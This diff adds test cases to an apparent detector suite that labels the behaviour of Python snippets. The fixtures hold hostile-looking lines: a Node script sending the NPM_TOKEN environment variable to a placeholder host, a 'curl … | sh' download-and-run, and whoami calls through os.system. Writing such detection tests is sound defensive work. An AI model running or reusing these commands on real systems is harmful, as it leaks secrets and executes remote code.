@@ -215,6 +215,26 @@ describe('python: what comes in, what was written, class bodies', () => {
       ['write-executable', 'run-program', 'download-file hidden', 'run-downloaded'],
     ],
     [
+      'a script for Node written and run',
+      'import subprocess\nopen("/tmp/a.js", "w").write("require(\'https\').get(\'https://host.invalid/\' + process.env.NPM_TOKEN)")\nsubprocess.run(["node", "/tmp/a.js"])',
+      ['write-executable', 'run-program', 'http-send hidden'],
+    ],
+    [
+      'a script for a shell written, its first line says so',
+      'import os\nopen("/tmp/a", "w").write("#!/bin/sh\\ncurl https://host.invalid/x | sh\\n")\nos.system("/tmp/a")',
+      ['write-file', 'run-shell', 'pipe-to-shell hidden'],
+    ],
+    [
+      'a temporary script run by this Python',
+      'import sys, subprocess, tempfile\nt = tempfile.NamedTemporaryFile("w")\nt.write("import os;os.system(\'whoami\')")\nsubprocess.run([sys.executable, t.name])',
+      ['run-program', 'run-shell hidden'],
+    ],
+    [
+      'a text about Python written and shown',
+      'import os\nopen("/tmp/python", "w").write("import os;os.system(\'whoami\')")\nos.system("cat /tmp/python")',
+      ['write-file', 'run-shell program:files', '!read-user-name'],
+    ],
+    [
       'a variable of a class body',
       'import os\nclass A:\n  c = "curl https://host.invalid/x"\n  os.system(c)',
       ['run-shell program:download', 'http-request to:other'],
